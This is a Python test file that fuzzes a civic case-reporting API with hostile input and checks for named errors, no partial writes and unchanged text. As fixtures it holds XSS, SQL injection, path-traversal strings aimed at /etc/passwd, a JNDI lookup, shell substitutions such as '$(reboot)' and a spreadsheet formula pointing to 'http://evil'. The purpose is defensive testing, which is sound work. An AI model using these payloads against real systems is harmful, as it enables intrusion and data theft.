"""Hostile input at every door: a named error, never a trace, nothing half-made; good words verbatim."""

from __future__ import annotations

import gzip
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from tests.support import http
from tests.support import world as w
from tests.support.delivery import prepare_all
from tests.support.hostile import EVERYBODY, hostile_client, named, standing

from yiwang.base.cases import api as cases
from yiwang.entry import bootstrap
from yiwang.infra.database import Database
from yiwang.kernel.actor import SYSTEM

#: Words people or attackers write; each must come back exactly as it went in.
WORDS = (
    "𠮷野家门口的㐂字招牌，𰻝𰻝面馆旁，“𬭛”字路口",
    "👨‍👩‍👧‍👦🏳️‍🌈 路灯不亮 🚧",
    "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    '\'; DROP TABLE cases_case; -- " OR ""="',
    "../../../../etc/passwd ..\\..\\windows\\win.ini file:///etc/shadow",
    "%s %n {0} {{7*7}} ${jndi:ldap://x/a} $(reboot) `id`",
    '=HYPERLINK("http://evil","x") @SUM(1) +1 -1',
    "第一行\n第二行\t制表\n\n  缩进",
    "e\u0301 é ﬁ Ⅷ ㎡ ½ ﷽",
    "\\N \\. \\x00 %00 &#0; \\u0000",
    "مرحبا שלום Здравствуй",
)


@pytest.fixture
async def client(database: Database, tmp_path: Path) -> AsyncIterator[http.Client]:
    async with hostile_client(database, tmp_path) as made:
        yield made


# --- words ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("words", WORDS)
async def test_words_come_back_as_they_went_in(client: http.Client, words: str) -> None:
    made = await client.post(
        "/api/v1/reports",
        json={
            "source": "hotline",
            "text": words,
            "external_id": words[:30],
            "reporter": {"name": words[:20]},
        },
    )
    assert made.status_code == 201, made.text
    found = await client.get(f"/api/v1/reports/{made.json()['id']}")
    assert found.json()["text"] == words
    assert found.headers["content-type"].startswith("application/json")
    assert found.headers["x-content-type-options"] == "nosniff"
    await prepare_all(client.database)
    number = (await client.get(f"/api/v1/reports/{made.json()['id']}")).json()["case"]
    detail = (await client.get(f"/api/v1/cases/{number}")).json()
    assert detail["reports"][0]["text"] == words
    done = await client.post(f"/api/v1/cases/{number}/actions/comment", json={"text": words})
    assert done.status_code == 200, done.text
    async with client.database.reading(SYSTEM) as work:
        kept = await work.tx.fetchval("SELECT text FROM cases_note ORDER BY at DESC, id DESC LIMIT 1")
    assert kept == words


@pytest.mark.parametrize("words", WORDS)
async def test_words_of_a_file_come_back_as_they_stood(client: http.Client, words: str) -> None:
    import csv

    table = io.StringIO()
    csv.writer(table).writerows([["id", "text", "at", "unit"], [words[:30], words, "2025-08-01", words[:40]]])
    mapping = (
        "source: town\nfields: {external_id: id, text: text, reported_at: at, unit: unit}\n"
        "create_missing: [unit]"
    )
    answer = await client.post(
        "/api/v1/imports",
        data={"kind": "cases", "mapping": mapping},
        files={"file": ("a.csv", table.getvalue().encode(), "text/csv")},
    )
    assert answer.status_code == 202, answer.text
    await bootstrap.stop()
    async with client.database.reading(SYSTEM) as work:
        row = await work.tx.fetchrow(
            "SELECT r.text, c.title FROM cases_report r JOIN cases_case c ON c.id = r.case_id"
        )
        unit = await work.tx.fetchval("SELECT name FROM identity_unit WHERE code LIKE 'town.%'")
    assert row["text"] == words
    assert row["title"] == cases.title_of(words)
    assert unit == words[:40].strip()


# --- reports -------------------------------------------------------------------------------------------

GOOD = {"source": "hotline", "text": "路灯不亮"}


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"text": ""}, "text"),
        ({"text": " \n\t "}, "text"),
        ({"text": "a\x00b"}, "text"),
        ({"text": "x" * 100_000}, "text"),
        ({"text": ["x"]}, "text"),
        ({"source": "../etc"}, "source"),
        ({"source": ""}, "source"),
        ({"lon": 181, "lat": 0}, "lon"),
        ({"lon": 0, "lat": -91}, "lon"),
        ({"lon": 120}, "lat"),
        ({"lon": "120", "lat": "30"}, "lon"),
        ({"lon": 120, "lat": 30, "crs": "mars"}, None),
        ({"reported_at": "2999-01-01T00:00:00Z"}, "reported_at"),
        ({"reported_at": "1066-01-01T00:00:00Z"}, "reported_at"),
        ({"reported_at": "2026-02-30T00:00:00Z"}, "reported_at"),
        ({"reported_at": 12345}, "reported_at"),
        ({"channel": "telepathy"}, "channel"),
        ({"reporter": {"phone": "call me"}}, "reporter.phone"),
        ({"reporter": {"email": "no"}}, "reporter.email"),
        ({"reporter": {"ssn": "1"}}, None),
        ({"media": ["not-an-id"]}, None),
        ({"media": ["00000000-0000-0000-0000-000000000000"]}, "media"),
        ({"attributes": {"a": "x" * 10_000}}, "attributes"),
        ({"attributes": {"a\x00": 1}}, "attributes"),
        ({"external_id": "x" * 5000}, "external_id"),
        ({"nobody_asked": 1}, None),
    ],
)
async def test_a_bad_report_is_refused_by_its_field(
    client: http.Client, change: dict[str, Any], field: str | None
) -> None:
    before = await standing(client.database)
    error = named(await client.post("/api/v1/reports", json=GOOD | change))
    assert field is None or error["field"] == field
    assert await standing(client.database) == before
    public = named(await client.post("/api/v1/public/reports", json=GOOD | change))
    assert public["code"]
    assert await standing(client.database) == before


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"\xff\xfe",
        b"<report><text>x</text></report>",
        b"source=hotline&text=x",
        '{"source":"hotline","text":"路灯"}'.encode("gb18030"),
        '{"source":"hotline","text":"x"}'.encode("utf-16"),
        gzip.compress(b'{"source":"hotline","text":"x"}', mtime=0),  # the body names the test: no clock in it
        b'{"source":"hotline","text":"\\ud800"}',
        b'{"source":"hotline","text":"x"} trailing',
        b"[" * 100_000,
        b'{"source":"hotline","text":"x","lon":1e999,"lat":1}',
    ],
)
async def test_a_body_that_is_not_json_is_refused(client: http.Client, body: bytes) -> None:
    before = await standing(client.database)
    for path in ("/api/v1/reports", "/api/v1/areas/locate", "/api/v1/session"):
        named(await client.post(path, content=body, headers={"content-type": "application/json"}))
    assert await standing(client.database) == before


async def test_large_bodies_are_refused_by_their_length_or_as_they_come(client: http.Client) -> None:
    async def endless() -> AsyncIterator[bytes]:
        for _ in range(64):
            yield b"x" * 1_000_000

    before = await standing(client.database)
    for path, kind in (
        ("/api/v1/reports", "application/json"),
        ("/api/v1/cases/1/actions/comment", "application/json"),
        ("/open311/v2/requests.json", "application/x-www-form-urlencoded"),
    ):
        told = await client.post(path, content=b"x" * 3_000_000, headers={"content-type": kind})
        assert told.status_code == 413
        told = await client.post(path, content=endless(), headers={"content-type": kind})
        assert told.status_code == 413

    async def endless_file() -> AsyncIterator[bytes]:
        yield b'--x\r\ncontent-disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n'
        async for piece in endless():
            yield piece

    form = {"content-type": "multipart/form-data; boundary=x"}
    told = await client.post("/api/v1/media", content=endless_file(), headers=form)
    assert named(told, status=413)["code"] == "payload_too_large"
    assert await standing(client.database) == before


# --- actions -------------------------------------------------------------------------------------------


async def test_no_body_of_an_action_breaks_it_or_half_does_it(client: http.Client) -> None:
    odd: tuple[Any, ...] = (
        None,
        [],
        "x",
        1,
        True,
        {"x": 1},
        "\x00",
        "x" * 50_000,
        -1,
        1e300,
        "2026-02-30",
        "𠮷",
    )
    names = [a["id"] for a in (await client.get("/api/v1/vocabulary")).json()["actions"]]
    assert "dispatch" in names
    number = (await w.opened(client.database)).number
    async with client.database.reading(SYSTEM) as work:
        at = await work.tx.fetchval("SELECT version FROM cases_case WHERE number = $1", number)
    for action in names:
        for value in odd:
            fields = (
                "unit",
                "reason",
                "text",
                "comment",
                "satisfaction",
                "units",
                "amount",
                "into",
                "version",
                "media",
            )
            for body in (value, dict.fromkeys(fields, value), {"version": value}):
                answer = await client.post(f"/api/v1/cases/{number}/actions/{action}", json=body)
                assert answer.status_code < 500, (action, body, answer.text[:300])
                async with client.database.reading(SYSTEM) as work:
                    now = await work.tx.fetchval("SELECT version FROM cases_case WHERE number = $1", number)
                    told = await cases.rebuild(work.tx, (await cases_id(work.tx, number)))
                assert told.version == now
                if answer.status_code >= 400:
                    named(answer)
                    assert now == at, (action, body)
                at = now


async def cases_id(tx: Any, number: str) -> Any:
    return await tx.fetchval("SELECT id FROM cases_case WHERE number = $1", number)


# --- the address and the head of a request ------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    ["/..%2f..%2fetc%2fpasswd", "/assets/..%2f..%2f..%2fetc/passwd", "/assets/%2e%2e/%2e%2e/etc/passwd", "/%00", "//etc/passwd",
     "/api/v1/../../etc/passwd", "/api/v1/media/..%2f..%2fetc%2fpasswd", "/open311/v2/media/%2e%2e%2fx"],
)  # fmt: skip
async def test_no_path_leads_outside(client: http.Client, path: str) -> None:
    answer = await client.get(path)
    assert answer.status_code in {200, 307, 400, 404, 405, 422}
    assert "root:" not in answer.text


@pytest.mark.parametrize(
    "headers",
    [
        {"authorization": "Bearer " + "x" * 60_000},
        {"authorization": "Bearer \xff\xfe"},
        {"cookie": "yiwang_session=" + "%00" * 50},
        {"x-request-id": "a" * 500},
        {"idempotency-key": "\x7f" * 300},
        {"content-length": "-5"},
        {"content-type": "application/json; charset=klingon"},
        {"content-type": "multipart/form-data"},
        {"accept-language": "*;q=" + "9" * 500},
        {"range": "bytes=0-0,-1,999999999999-"},
    ],
)
async def test_no_header_breaks_a_request(client: http.Client, headers: dict[str, str]) -> None:
    raw = {name: value.encode("latin-1") for name, value in headers.items()}
    for method, path in (("GET", "/api/v1/cases"), ("POST", "/api/v1/reports"), ("GET", "/api/v1/me")):
        answer = await client.request(
            method, path, headers=raw, content=json.dumps(GOOD).encode() if method == "POST" else b""
        )
        assert answer.status_code < 500, answer.text[:300]
        assert len(answer.headers["x-request-id"]) <= 64


def test_everybody_is_a_person_and_not_the_system() -> None:
    assert not EVERYBODY.is_system
